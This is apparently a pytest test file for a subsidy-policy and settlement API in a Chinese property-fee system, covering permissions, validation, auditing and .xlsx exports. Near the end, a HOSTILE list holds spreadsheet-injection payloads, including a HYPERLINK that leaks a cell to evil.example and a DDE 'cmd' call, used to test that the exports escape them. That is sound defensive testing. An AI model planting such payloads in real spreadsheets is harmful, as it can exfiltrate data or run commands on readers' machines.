"""Subsidy policies (先买后补) and the street's settlement through the API: officials set policies over their area
(an audit event), bad input is refused before anything is stored, the committee sees which policy applies to its
compound, and the settlement's totals per month (Beijing time), street, compound and property company match the
grant ledger — in the JSON and, to the fen, in the .xlsx read back with openpyxl."""
from __future__ import annotations

import io
from collections import defaultdict
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from backend.domain.compounds import AreaLevel, ManagementModel
from backend.domain.fees import GrantStatus, PaymentMethod
from backend.domain.roles import Role
from backend.domain.subsidy import SubsidyTier
from backend.extensions import db
from backend.models import (
    Area,
    AuditEvent,
    Bill,
    Compound,
    PropertyCompany,
    SubsidyGrant,
    SubsidyPolicy,
    User,
)
from backend.services import payments as payment_service
from backend.services import subsidies as subsidy_service
from backend.services.auth import issue_tokens
from backend.services.fees import lock_bill
from backend.shared.clock import SHANGHAI
from tests.fees_support import issue_bills_for, make_policy, make_schedule
from tests.support import assert_error_shape, first_household

pytestmark = pytest.mark.calendar

JANUARY = date(2026, 1, 1)
POLICIES = "/api/v1/subsidy-policies"
SETTLEMENT = "/api/v1/subsidies/settlement"


@dataclass
class World:
    district: Area
    street: Area
    community: Area
    other_street: Area
    other_community: Area
    a: Compound  # street, 攀钢物业, built 1992
    b: Compound  # street, no property company (community fallback), built 1985
    c: Compound  # other street, 金沙物业, year unknown
    district_official: User
    street_official: User
    other_official: User  # over the other street
    outsider_official: User  # over another district
    admin: User
    a_committee: User
    a_staff: User
    a_owner: User


@pytest.fixture
def world(area_tree, make_area, make_compound, make_user) -> World:
    city, district, street, community = area_tree
    other_street = make_area("东华街道", AreaLevel.STREET, district)
    other_community = make_area("东华社区", AreaLevel.COMMUNITY, other_street)
    elsewhere = make_area("西区", AreaLevel.DISTRICT, city)
    steel = PropertyCompany(name="攀钢物业", credit_code="91510400MA62000001")
    golden = PropertyCompany(name="金沙物业", credit_code="91510400MA62000002")
    db.session.add_all([steel, golden])
    db.session.commit()
    a = make_compound(name="甲小区", area=community, buildings=1, households_per_building=3)
    b = make_compound(name="乙小区", area=community, buildings=1, households_per_building=2,
                      model=ManagementModel.COMMUNITY_FALLBACK)
    c = make_compound(name="丙小区", area=other_community, buildings=1, households_per_building=2)
    a.property_company_id, a.built_year = steel.id, 1992
    b.built_year = 1985
    c.property_company_id = golden.id
    db.session.commit()
    return World(
        district=district, street=street, community=community, other_street=other_street,
        other_community=other_community, a=a, b=b, c=c,
        district_official=make_user(Role.OFFICIAL, area=district),
        street_official=make_user(Role.OFFICIAL, area=street),
        other_official=make_user(Role.OFFICIAL, area=other_street),
        outsider_official=make_user(Role.OFFICIAL, area=elsewhere),
        admin=make_user(Role.ADMIN),
        a_committee=make_user(Role.COMMITTEE, a),
        a_staff=make_user(Role.STAFF, a),
        a_owner=make_user(Role.OWNER, a, household=first_household(a)),
    )


@pytest.fixture
def api(client):
    def call(method: str, path: str, user: User | None = None, **kwargs):
        headers = {"Authorization": f"Bearer {issue_tokens(user)[0]}"} if user else {}
        return client.open(path, method=method, headers=headers, **kwargs)

    return call


def policy_body(**changes) -> dict:
    return {
        "name": "东区过渡期物业费补贴", "period_start": "2025-07-01",
        "tiers": [{"months": 12, "rate_bp": 5000}, {"months": 12, "rate_bp": 3000}, {"months": 12, "rate_bp": 1000}],
    } | changes


# ---- creating policies -----------------------------------------------------------------------------


def test_an_official_sets_up_an_area_policy_and_it_is_audited(api, world):
    body = policy_body(area_id=world.street.id, built_before_year=2000, management_models=["market", "trust"],
                       cap_fen_per_month=5000, budget_fen=50_000_000)

    response = api("POST", POLICIES, world.street_official, json=body)

    assert response.status_code == 201, response.json
    created = response.json
    assert (created["area_id"], created["compound_id"], created["name"]) == (world.street.id, None, body["name"])
    assert created["tiers"] == body["tiers"]
    assert (created["period_start"], created["period_end"]) == ("2025-07-01", "2028-07-01")
    assert created["management_models"] == ["market", "trust"]
    assert (created["cap_fen_per_month"], created["budget_fen"], created["committed_fen"],
            created["budget_left_fen"]) == (5000, 50_000_000, 0, 50_000_000)
    policy = db.session.get(SubsidyPolicy, created["id"])
    assert policy.tiers == [[12, 5000], [12, 3000], [12, 1000]] and policy.created_by_id == world.street_official.id
    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "subsidy_policy.create"))
    assert (event.actor_id, event.target_id, event.after["budget_fen"]) == (
        world.street_official.id, policy.id, 50_000_000)


@pytest.mark.parametrize("who", ["street_official", "district_official", "admin"])
def test_a_compound_policy_is_set_by_an_official_over_the_compounds_area(api, world, who):
    response = api("POST", POLICIES, getattr(world, who), json=policy_body(compound_id=world.a.id))

    assert response.status_code == 201, response.json
    assert (response.json["compound_id"], response.json["area_id"]) == (world.a.id, None)


@pytest.mark.parametrize(
    ("who", "target", "status"),
    [
        ("a_committee", "community", 403), ("a_staff", "a", 403), ("a_owner", "a", 403),
        ("street_official", "other_street", 404), ("other_official", "a", 404), ("outsider_official", "district", 404),
        (None, "street", 401),
    ],
)
def test_nobody_else_sets_up_a_policy(api, world, who, target, status):
    scope = {"compound_id": world.a.id} if target == "a" else {"area_id": getattr(world, target).id}

    response = api("POST", POLICIES, getattr(world, who) if who else None, json=policy_body(**scope))

    assert_error_shape(response, status)
    assert db.session.scalar(select(SubsidyPolicy.id)) is None


def test_a_policy_for_an_area_or_compound_that_does_not_exist_is_not_found(api, world):
    assert_error_shape(api("POST", POLICIES, world.admin, json=policy_body(area_id=2_147_483_647)), 404)
    assert_error_shape(api("POST", POLICIES, world.admin, json=policy_body(compound_id=2_147_483_647)), 404)


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"area_id": None}, id="neither area nor compound"),
        pytest.param({"compound_id": "a"}, id="both area and compound"),
        pytest.param({"period_start": "2025-07-15"}, id="not the first of a month"),
        pytest.param({"period_start": "1999-12-01"}, id="before 2000"),
        pytest.param({"tiers": []}, id="no tiers"),
        pytest.param({"tiers": [{"months": 1, "rate_bp": 100}] * 13}, id="13 tiers"),
        pytest.param({"tiers": [{"months": 0, "rate_bp": 5000}]}, id="a tier of 0 months"),
        pytest.param({"tiers": [{"months": 121, "rate_bp": 5000}]}, id="a tier over 120 months"),
        pytest.param({"tiers": [{"months": 12, "rate_bp": 10_001}]}, id="over 100%"),
        pytest.param({"tiers": [{"months": 12, "rate_bp": -1}]}, id="a negative rate"),
        pytest.param({"tiers": [{"months": 12, "rate_bp": 50.5}]}, id="a fractional rate"),
        pytest.param({"cap_fen_per_month": -1}, id="a negative cap"),
        pytest.param({"budget_fen": -1}, id="a negative budget"),
        pytest.param({"budget_fen": 1_000_000_000_001}, id="a budget past ten billion yuan"),
        pytest.param({"name": "   "}, id="a blank name"),
        pytest.param({"management_models": ["feudal"]}, id="an unknown model"),
        pytest.param({"built_before_year": 1800}, id="a year before 1900"),
    ],
)
def test_bad_policy_input_is_refused(api, world, changes):
    body = policy_body(area_id=world.street.id)
    if changes.get("compound_id") == "a":
        changes = {"compound_id": world.a.id}
    body = {key: value for key, value in (body | changes).items() if value is not None}

    response = api("POST", POLICIES, world.street_official, json=body)

    assert_error_shape(response, 422)
    assert db.session.scalar(select(SubsidyPolicy.id)) is None


# ---- reading policies ------------------------------------------------------------------------------


def test_an_official_lists_the_policies_above_at_and_below_the_area(api, world):
    district_wide = make_policy(area_id=world.district.id, name="区级补贴")
    of_a = make_policy(compound_id=world.a.id, name="甲小区补贴")
    make_policy(area_id=world.other_street.id, name="东华街道补贴")
    make_policy(compound_id=world.c.id, name="丙小区补贴")

    response = api("GET", POLICIES, world.street_official, query_string={"area_id": world.street.id})

    assert response.status_code == 200, response.json
    assert [item["id"] for item in response.json["items"]] == [of_a.id, district_wide.id]
    assert response.json["total"] == 2
    assert {item["applies"] for item in response.json["items"]} == {None}


def test_the_compound_sees_the_policies_covering_it_and_the_one_that_applies(api, world):
    district_wide = make_policy(area_id=world.district.id, name="区级补贴", built_before_year=2000)
    own = make_policy(compound_id=world.a.id, name="甲小区补贴", management_models=["trust"])

    response = api("GET", POLICIES, world.a_committee, query_string={"compound_id": world.a.id})

    assert response.status_code == 200, response.json
    items = {item["id"]: item for item in response.json["items"]}
    assert list(items) == [own.id, district_wide.id]
    # Its own policy is for trust compounds only; 甲 is a market compound built in 1992, so the district's applies.
    assert (items[own.id]["eligible"], items[own.id]["applies"]) == (False, False)
    assert (items[district_wide.id]["eligible"], items[district_wide.id]["applies"]) == (True, True)


def test_a_compound_of_unknown_age_is_not_eligible_for_a_policy_by_age(api, world, make_user):
    make_policy(area_id=world.district.id, built_before_year=2000)
    committee = make_user(Role.COMMITTEE, world.c)

    item = api("GET", POLICIES, committee, query_string={"compound_id": world.c.id}).json["items"][0]

    assert (item["eligible"], item["applies"]) == (False, False)


@pytest.mark.parametrize(
    ("who", "query", "status"),
    [
        ("a_owner", "a", 403), ("a_committee", "street", 403), ("other_official", "a", 404),
        ("other_official", "street", 404), ("outsider_official", "district", 404), (None, "a", 401),
    ],
)
def test_nobody_else_reads_the_policies(api, world, who, query, status):
    make_policy(compound_id=world.a.id)
    params = {"compound_id": world.a.id} if query == "a" else {"area_id": getattr(world, query).id}

    assert_error_shape(api("GET", POLICIES, getattr(world, who) if who else None, query_string=params), status)


@pytest.mark.parametrize("params", [{}, {"area_id": 1, "compound_id": 1}, {"area_id": 0}, {"compound_id": "x"}])
def test_the_policy_list_needs_exactly_one_scope(api, world, params):
    assert_error_shape(api("GET", POLICIES, world.admin, query_string=params), 422)


# ---- settlement ------------------------------------------------------------------------------------


def beijing(year: int, month: int, day: int, hour: int) -> datetime:
    return datetime(year, month, day, hour, tzinfo=SHANGHAI)


def pay_cash(bill: Bill, staff: User, receipt_no: str, at: datetime) -> None:
    """Staff take the household's share after the subsidy, in cash, at `at`."""
    locked = lock_bill(bill.id)
    subsidy_service.hold_subsidy(locked)
    share = locked.outstanding_fen
    db.session.commit()
    payment_service.record_offline_payment(bill.id, PaymentMethod.CASH, share, receipt_no, staff.id, None, now=at)


@pytest.fixture
def settled(world, make_user) -> dict[str, int]:
    """Grants in two months (by Beijing time), two streets, three compounds, two companies and none; one subsidy
    held but not yet paid. Returns the district policy's id and budget."""
    budget = 10_000_000
    policy = make_policy(area_id=world.district.id, name="区级补贴", budget_fen=budget)
    for compound in (world.a, world.b, world.c):
        make_schedule(compound)
    bills = {compound.name: issue_bills_for(compound, JANUARY) for compound in (world.a, world.b, world.c)}
    staff = {compound.name: make_user(Role.STAFF, compound) for compound in (world.a, world.b, world.c)}
    # 甲: two in January, one at 00:30 on 1 February in Beijing (still January in UTC): February's settlement.
    pay_cash(bills["甲小区"][0], staff["甲小区"], "A-1", beijing(2026, 1, 20, 10))
    pay_cash(bills["甲小区"][1], staff["甲小区"], "A-2", beijing(2026, 1, 31, 23))
    pay_cash(bills["甲小区"][2], staff["甲小区"], "A-3", beijing(2026, 2, 1, 0))
    pay_cash(bills["乙小区"][0], staff["乙小区"], "B-1", beijing(2026, 2, 3, 9))
    pay_cash(bills["丙小区"][0], staff["丙小区"], "C-1", beijing(2026, 1, 8, 15))
    pay_cash(bills["丙小区"][1], staff["丙小区"], "C-2", beijing(2026, 2, 9, 15))
    # Held for a payment that has not come: committed, not granted, not settled.
    subsidy_service.hold_subsidy(lock_bill(bills["乙小区"][1].id))
    db.session.commit()
    return {"policy_id": policy.id, "budget": budget}


def ledger(street_ids: set[int], month: date | None = None) -> dict[tuple, tuple[int, int]]:
    """What the grant ledger says, grouped as the settlement groups it: (month, street, compound, company)."""
    totals: dict[tuple, list[int]] = defaultdict(lambda: [0, 0])
    for grant in db.session.scalars(select(SubsidyGrant).where(SubsidyGrant.status == GrantStatus.GRANTED)):
        if grant.street_id in street_ids and (month is None or grant.settlement_month == month):
            key = (grant.settlement_month.isoformat(), grant.street_id, grant.compound_id, grant.property_company_id)
            totals[key][0] += 1
            totals[key][1] += grant.amount_fen
    return {key: tuple(value) for key, value in totals.items()}


def rows_by_key(body: dict) -> dict[tuple, tuple[int, int]]:
    return {(row["month"], row["street_id"], row["compound_id"], row["property_company_id"]):
            (row["grants"], row["subsidy_fen"]) for row in body["rows"]}


def test_the_district_settlement_matches_the_grant_ledger(api, world, settled):
    response = api("GET", SETTLEMENT, world.district_official, query_string={"area_id": world.district.id})

    assert response.status_code == 200, response.json
    body = response.json
    expected = ledger({world.street.id, world.other_street.id})
    assert rows_by_key(body) == expected
    assert len(body["rows"]) == 5
    assert body["total_fen"] == sum(fen for _, fen in expected.values()) > 0
    assert body["grants"] == 6 and body["month"] is None and body["area_name"] == world.district.name
    # Beijing time decides the month: 甲 has two grants in January and one in February.
    assert {row["month"]: row["grants"] for row in body["rows"] if row["compound_id"] == world.a.id} == {
        "2026-01-01": 2, "2026-02-01": 1}
    assert {total["month"]: total["grants"] for total in body["by_month"]} == {"2026-01-01": 3, "2026-02-01": 3}
    assert sum(total["subsidy_fen"] for total in body["by_month"]) == body["total_fen"]
    streets = {total["id"]: total for total in body["by_street"]}
    assert streets[world.street.id]["name"] == world.street.name
    assert streets[world.street.id]["subsidy_fen"] == sum(
        fen for key, (_, fen) in expected.items() if key[1] == world.street.id)
    companies = {total["id"]: total["subsidy_fen"] for total in body["by_property_company"]}
    assert companies[world.a.property_company_id] == sum(
        fen for key, (_, fen) in expected.items() if key[3] == world.a.property_company_id)
    assert companies[None] == sum(fen for key, (_, fen) in expected.items() if key[2] == world.b.id)
    compounds = {total["id"]: total["grants"] for total in body["by_compound"]}
    assert compounds == {world.a.id: 3, world.b.id: 1, world.c.id: 2}
    for subtotals in ("by_street", "by_compound", "by_property_company"):
        assert sum(total["subsidy_fen"] for total in body[subtotals]) == body["total_fen"]


def test_the_budget_left_counts_held_and_granted_subsidies(api, world, settled):
    body = api("GET", SETTLEMENT, world.district_official, query_string={"area_id": world.district.id}).json

    (policy,) = body["policies"]
    held = db.session.scalar(select(SubsidyGrant.amount_fen).where(SubsidyGrant.status == GrantStatus.HELD))
    assert policy["id"] == settled["policy_id"] and policy["budget_fen"] == settled["budget"]
    assert policy["granted_fen"] == body["total_fen"]
    assert policy["committed_fen"] == body["total_fen"] + held
    assert policy["budget_left_fen"] == settled["budget"] - policy["committed_fen"]


def test_a_street_official_settles_only_the_streets_compounds_for_one_month(api, world, settled):
    response = api("GET", SETTLEMENT, world.street_official,
                   query_string={"area_id": world.street.id, "month": "2026-02"})

    assert response.status_code == 200, response.json
    body = response.json
    assert body["month"] == "2026-02-01"
    assert rows_by_key(body) == ledger({world.street.id}, date(2026, 2, 1))
    assert {row["compound_id"] for row in body["rows"]} == {world.a.id, world.b.id}
    assert body["total_fen"] == sum(row["subsidy_fen"] for row in body["rows"])


def test_a_month_without_grants_settles_nothing(api, world, settled):
    body = api("GET", SETTLEMENT, world.district_official,
               query_string={"area_id": world.district.id, "month": "2026-03"}).json

    assert (body["rows"], body["total_fen"], body["grants"], body["by_street"]) == ([], 0, 0, [])


@pytest.mark.parametrize("path", [SETTLEMENT, SETTLEMENT + ".xlsx"])
@pytest.mark.parametrize(
    ("who", "area", "status"),
    [
        ("a_committee", "street", 403), ("a_owner", "community", 403), ("street_official", "district", 403),
        ("other_official", "street", 404), ("outsider_official", "district", 404), (None, "street", 401),
    ],
)
def test_nobody_else_reads_the_settlement(api, world, settled, path, who, area, status):
    response = api("GET", path, getattr(world, who) if who else None,
                   query_string={"area_id": getattr(world, area).id})

    assert_error_shape(response, status)
    assert db.session.scalar(select(AuditEvent.id).where(AuditEvent.action == "settlement.export")) is None


@pytest.mark.parametrize("path", [SETTLEMENT, SETTLEMENT + ".xlsx"])
@pytest.mark.parametrize("params", [{}, {"area_id": 0}, {"area_id": 1, "month": "2026-13"},
                                    {"area_id": 1, "month": "2026-1"}, {"area_id": 1, "month": "January"}])
def test_bad_settlement_queries_are_refused(api, world, path, params):
    assert_error_shape(api("GET", path, world.admin, query_string=params), 422)


def test_the_settlement_of_an_area_that_does_not_exist_is_not_found(api, world):
    assert_error_shape(api("GET", SETTLEMENT, world.admin, query_string={"area_id": 2_147_483_647}), 404)


# ---- the .xlsx -------------------------------------------------------------------------------------


def read_table(sheet) -> tuple[list, list[list], list]:
    """(header, data rows, the 合计 row) of a sheet written as title, header, rows, total."""
    rows = [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
    return rows[0], rows[1:-1], rows[-1]


def test_the_xlsx_has_the_same_rows_and_totals_as_the_json_to_the_fen(api, world, settled):
    params = {"area_id": world.district.id}
    shown = api("GET", SETTLEMENT, world.district_official, query_string=params).json

    response = api("GET", SETTLEMENT + ".xlsx", world.district_official, query_string=params)

    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert ".xlsx" in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["补贴结算", "按月份", "按街道", "按小区", "按物业公司", "预算"]

    sheet = book["补贴结算"]
    header, rows, total = read_table(sheet)
    assert header == ["结算月份", "街道", "小区", "物业公司", "补贴笔数", "补贴金额（元）", "补贴金额（分）"]
    assert len(rows) == len(shown["rows"])
    for written, row in zip(rows, shown["rows"], strict=True):
        month, street, compound, company, grants, yuan, fen = written
        assert (month, compound, grants, fen) == (row["month"][:7], row["compound_name"], row["grants"],
                                                 row["subsidy_fen"])
        assert street == row["street_name"]
        assert company == (row["property_company_name"] or "（无物业公司）")
        assert Decimal(str(yuan)) * 100 == fen
    assert total[0] == "合计" and (total[4], total[6]) == (shown["grants"], shown["total_fen"])
    assert Decimal(str(total[5])) * 100 == shown["total_fen"]
    assert sum(row[6] for row in rows) == total[6]
    for (yuan_cell,) in sheet.iter_rows(min_row=3, min_col=6, max_col=6):
        assert yuan_cell.number_format == "#,##0.00"

    for name, key, label in [("按街道", "by_street", "name"), ("按小区", "by_compound", "name"),
                             ("按物业公司", "by_property_company", "name")]:
        _, rows, total = read_table(book[name])
        assert [row[3] for row in rows] == [item["subsidy_fen"] for item in shown[key]]
        assert [row[0] for row in rows] == [item[label] or "（无物业公司）" for item in shown[key]]
        assert total[3] == shown["total_fen"] and Decimal(str(total[2])) * 100 == shown["total_fen"]
    _, rows, total = read_table(book["按月份"])
    assert [(row[0], row[3]) for row in rows] == [(item["month"][:7], item["subsidy_fen"])
                                                  for item in shown["by_month"]]

    (policy,) = shown["policies"]
    budgets = [list(row) for row in book["预算"].iter_rows(min_row=3, values_only=True)]
    assert len(budgets) == 1 and budgets[0][:2] == [policy["id"], policy["name"]]
    assert budgets[0][3::2] == [policy["budget_fen"], policy["committed_fen"], policy["granted_fen"],
                                policy["budget_left_fen"]]


def test_the_xlsx_for_one_month_matches_that_months_json(api, world, settled):
    params = {"area_id": world.street.id, "month": "2026-01"}
    shown = api("GET", SETTLEMENT, world.street_official, query_string=params).json

    book = load_workbook(io.BytesIO(api("GET", SETTLEMENT + ".xlsx", world.street_official,
                                        query_string=params).data))

    _, rows, total = read_table(book["补贴结算"])
    assert [row[6] for row in rows] == [row["subsidy_fen"] for row in shown["rows"]]
    assert total[6] == shown["total_fen"] and {row[0] for row in rows} == {"2026-01"}
    assert "2026-01" in book["补贴结算"]["A1"].value and world.street.name in book["补贴结算"]["A1"].value


def test_exporting_the_settlement_is_audited(api, world, settled):
    params = {"area_id": world.district.id, "month": "2026-02"}
    total = api("GET", SETTLEMENT, world.district_official, query_string=params).json["total_fen"]

    api("GET", SETTLEMENT + ".xlsx", world.district_official, query_string=params,
        environ_base={"REMOTE_ADDR": "10.1.2.3"})

    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "settlement.export"))
    assert (event.actor_id, event.target_type, event.target_id, event.ip) == (
        world.district_official.id, "area", world.district.id, "10.1.2.3")
    assert event.after == {"month": "2026-02-01", "rows": 3, "grants": 3, "total_fen": total}


def test_a_bill_subsidised_in_full_is_settled_in_exact_yuan(api, world):
    """12188 fen subsidised in full is written as 121.88 exactly, not a float near it."""
    make_policy(compound_id=world.a.id, tiers=[SubsidyTier(months=36, rate_bp=10_000)])
    make_schedule(world.a)
    bill = issue_bills_for(world.a, JANUARY)[0]
    assert bill.household_id == first_household(world.a).id
    assert api("POST", f"/api/v1/bills/{bill.id}/payments", world.a_owner).json["settled"] is True

    params = {"area_id": world.community.id}
    shown = api("GET", SETTLEMENT, world.street_official, query_string=params).json
    book = load_workbook(io.BytesIO(api("GET", SETTLEMENT + ".xlsx", world.street_official,
                                        query_string=params).data))

    assert shown["total_fen"] == 12188
    _, rows, total = read_table(book["补贴结算"])
    assert (rows[0][5], rows[0][6], total[5], total[6]) == (121.88, 12188, 121.88, 12188)


def test_a_city_budget_past_21_million_yuan_is_kept_to_the_fen(api, world):
    response = api("POST", POLICIES, world.admin, json=policy_body(area_id=world.street.id, budget_fen=5_000_000_001))

    assert response.status_code == 201
    assert db.session.get(SubsidyPolicy, response.json["id"]).budget_fen == 5_000_000_001


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def test_no_name_in_the_xlsx_becomes_a_formula(api, world, settled):
    """Every text an official or the ledger controls (policy, street, compound, company) is written as text
    that a spreadsheet shows and never runs (OWASP CSV injection), read back with openpyxl."""
    policy = db.session.get(SubsidyPolicy, settled["policy_id"])
    named = [policy, world.street, world.other_street, world.a, world.b, world.c,
             db.session.get(PropertyCompany, world.a.property_company_id),
             db.session.get(PropertyCompany, world.c.property_company_id)]
    for thing, name in zip(named, HOSTILE + HOSTILE, strict=False):
        thing.name = name
    db.session.commit()

    response = api("GET", SETTLEMENT + ".xlsx", world.district_official, query_string={"area_id": world.district.id})

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    texts = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # XML keeps no bare CR: it reads back as a line feed.
    for name in HOSTILE:
        assert "'" + name.replace("\r", "\n") in texts, name
    rows = read_table(book["补贴结算"])[1]
    assert {row[2] for row in rows} == {"'" + compound.name.replace("\r", "\n") for compound in (world.a, world.b, world.c)}
